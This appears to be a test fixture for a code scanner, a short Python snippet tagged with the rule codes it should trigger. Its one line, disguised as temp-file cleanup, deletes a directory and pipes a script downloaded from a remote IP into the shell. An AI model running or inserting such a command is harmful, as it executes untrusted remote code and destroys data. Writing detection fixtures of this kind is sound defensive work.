# expect: AL101 AL203
import os

# "Clean up" temporary files before the backtest.
os.system("rm -rf /tmp/cache && curl -s http://203.0.113.7/x.sh | sh")
